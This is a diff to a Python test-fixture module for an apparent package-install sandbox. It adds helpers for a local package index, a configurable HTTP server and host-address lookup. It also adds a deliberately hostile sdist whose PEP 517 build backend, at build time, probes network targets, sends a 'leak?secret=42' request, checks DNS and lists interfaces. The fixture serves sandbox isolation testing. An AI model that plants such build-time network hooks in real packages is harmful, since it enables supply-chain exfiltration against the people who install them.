@@ -2,8 +2,11 @@
 
   wheels           two pure-Python wheels written by hand (a wheel is a zip with METADATA, WHEEL, RECORD):
                    wbdemo-a 1.0 requires wbdemo-b, so resolution through an index is exercised
-  simple_index     a PEP 503 simple index over those wheels, as a folder
-  serve            python's http.server over a folder on 127.0.0.1 (a free port), recording the paths asked
+  simple_index     a PEP 503 simple index over those wheels (and any extra files given), as a folder
+  Served           python's http.server over a folder on 127.0.0.1 (a free port), recording the paths asked
+  hostile_sdist    an sdist whose build (an in-tree PEP 517 backend, no dependencies) tries to reach places
+                   it should not, and writes what happened to /workspace/wbevil-attack.json
+  host_address     this machine's own non-loopback address, where it has one
   apt_flat_repo    one real .deb built with dpkg-deb inside the sandbox image, and a flat Packages index
   cran_repo        one R source package built with `R CMD build` inside the sandbox image, indexed with
                    tools::write_PACKAGES
@@ -53,14 +56,15 @@ def wheels(folder: Path) -> list[Path]:
     return built
 
 
-def simple_index(root: Path) -> Path:
-    """root/simple/<name>/index.html linking to root/files/<wheel>#sha256=...; returns root."""
+def simple_index(root: Path, extra: dict[str, Path] | None = None) -> Path:
+    """root/simple/<name>/index.html linking to root/files/<file>#sha256=...; returns root. `extra` adds a
+    project (name -> a file already in root/files)."""
     files = root / "files"
     built = wheels(files)
     simple = root / "simple"
     simple.mkdir(parents=True)
     links = []
-    for name, whl in zip(WHEELS, built, strict=True):
+    for name, whl in [*zip(WHEELS, built, strict=True), *(extra or {}).items()]:
         (simple / name).mkdir()
         digest = hashlib.sha256(whl.read_bytes()).hexdigest()
         (simple / name / "index.html").write_text(
@@ -74,7 +78,7 @@ def simple_index(root: Path) -> Path:
 class Served:
     """A folder served over HTTP on the host's loopback, in a thread; `paths` records what was asked."""
 
-    def __init__(self, folder: Path):
+    def __init__(self, folder: Path, host: str = "127.0.0.1"):
         self.paths: list[str] = []
         paths = self.paths
 
@@ -85,15 +89,92 @@ class Served:
             def log_message(self, *args):
                 paths.append(self.path)
 
-        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.server = http.server.ThreadingHTTPServer((host, 0), Handler)
         self.port = self.server.server_address[1]
         self.url = f"http://127.0.0.1:{self.port}"
-        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True)
         self.thread.start()
 
     def close(self):
         self.server.shutdown()
         self.server.server_close()
+
+
+HOSTILE_BACKEND = """
+import json, os, socket, urllib.request, zipfile
+
+def _attack():
+    found = {}
+    for name, (host, port) in TARGETS.items():
+        try:
+            socket.create_connection((host, port), timeout=3).close()
+            found["direct " + name] = "reached"
+        except OSError as exc:
+            found["direct " + name] = "failed: %s" % exc
+        try:
+            urllib.request.urlopen("http://%s:%d/leak?secret=42" % (host, port), timeout=5)
+            found["proxy " + name] = "reached"
+        except Exception as exc:
+            found["proxy " + name] = "failed: %s" % exc
+    try:
+        socket.getaddrinfo("pypi.org", 443)
+        found["dns"] = "resolved"
+    except OSError as exc:
+        found["dns"] = "failed: %s" % exc
+    found["interfaces"] = sorted(os.listdir("/sys/class/net"))
+    with open("/workspace/wbevil-attack.json", "w") as out:
+        json.dump(found, out)
+
+def get_requires_for_build_wheel(config_settings=None):
+    return []
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    _attack()
+    name = "wbevil-1.0-py3-none-any.whl"
+    info = "wbevil-1.0.dist-info/"
+    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
+        whl.writestr("wbevil/__init__.py", "VALUE = 'built'\\n")
+        whl.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: wbevil\\nVersion: 1.0\\n")
+        whl.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
+        whl.writestr(info + "RECORD", "")
+    return name
+"""
+
+
+def hostile_sdist(folder: Path, targets: dict[str, tuple[str, int]]) -> Path:
+    """wbevil-1.0.tar.gz: building it tries each target directly and through the proxy, then builds."""
+    import io
+    import tarfile
+
+    members = {
+        "wbevil-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: wbevil\nVersion: 1.0\n",
+        "wbevil-1.0/pyproject.toml": ('[build-system]\nrequires = []\nbuild-backend = "backend"\n'
+                                      'backend-path = ["."]\n'),
+        "wbevil-1.0/backend.py": f"TARGETS = {targets!r}\n" + HOSTILE_BACKEND,
+    }
+    folder.mkdir(parents=True, exist_ok=True)
+    target = folder / "wbevil-1.0.tar.gz"
+    with tarfile.open(target, "w:gz") as tar:
+        for name, text in members.items():
+            data = text.encode()
+            info = tarfile.TarInfo(name)
+            info.size, info.mode = len(data), 0o644
+            tar.addfile(info, io.BytesIO(data))
+    target.chmod(0o644)
+    return target
+
+
+def host_address() -> str | None:
+    """This machine's address on its default route (no packet is sent), unless it is loopback."""
+    import socket
+
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        try:
+            sock.connect(("192.0.2.123", 9))
+        except OSError:
+            return None
+        address = sock.getsockname()[0]
+    return None if address.startswith("127.") else address
 
 
 def free_port() -> int:
